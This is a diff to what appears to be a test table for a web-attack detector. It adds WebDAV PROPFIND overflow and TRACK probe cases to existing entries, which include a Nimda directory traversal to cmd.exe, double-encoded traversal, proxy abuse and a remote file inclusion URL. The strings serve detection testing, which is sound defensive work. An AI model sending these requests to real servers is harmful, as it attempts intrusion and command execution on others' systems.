@@ -41,6 +41,8 @@ const SINGLE_EXPLOITS: Array<[string, string, string]> = [
   ['Nimda, lower-case get', 'get /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0', 'iis.nimda'],
   ['double-encoded traversal', 'GET /scripts/..%255c..%255c../winnt/system32/ HTTP/1.0', 'iis.nimda'],
   ['WebDAV SEARCH overflow', `SEARCH /${'A'.repeat(3000)} HTTP/1.1`, 'method.webdav_overflow'],
+  ['WebDAV PROPFIND overflow', `PROPFIND /${'%u0041'.repeat(400)} HTTP/1.1`, 'method.webdav_overflow'],
+  ['TRACK probe', 'TRACK / HTTP/1.1', 'method.track'],
   ['CONNECT proxy abuse', 'CONNECT mail.example.net:25 HTTP/1.0', 'proxy.connect'],
   ['absolute-URI proxy abuse', 'GET http://www.example.net/ HTTP/1.1', 'proxy.absolute_uri'],
   ['remote file inclusion', 'GET /index.php?page=http://198.51.100.9/x.txt? HTTP/1.1', 'rfi.ip_address_url'],
